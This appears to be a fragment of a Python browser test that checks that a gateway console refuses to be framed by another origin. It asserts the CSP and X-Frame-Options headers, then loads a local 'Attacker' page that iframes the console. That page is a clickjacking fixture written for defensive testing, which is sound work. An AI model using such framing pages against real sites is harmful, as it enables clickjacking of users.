        headers = (await client.get(gw.url + path)).headers
        assert "frame-ancestors 'self'" in headers["content-security-policy"], path
        assert headers["x-frame-options"] == "SAMEORIGIN", path
    framing = f'<iframe id="console" src="{gw.url}/" width="900" height="600"></iframe>'.encode()

    class Attacker(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(framing)

        def log_message(self, *args: Any) -> None:
            pass

    server = socketserver.TCPServer(("127.0.0.2", 0), Attacker)  # another origin than the gateway's 127.0.0.1
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = await browser.new_context()
    try:
        tab = await context.new_page()
        loaded = asyncio.get_running_loop().create_future()
        tab.on("framenavigated", lambda frame: frame.parent_frame and not loaded.done() and loaded.set_result(frame))
        await tab.goto(f"http://127.0.0.2:{server.server_address[1]}/")
        frame = await asyncio.wait_for(loaded, WAIT_MS / 1000)
        await tab.wait_for_load_state("load")
        # a refused frame holds the browser's error page, never the console's picker
        assert await frame.evaluate("document.querySelectorAll('#agent').length") == 0
    finally:
        await context.close()
        server.shutdown()
        server.server_close()
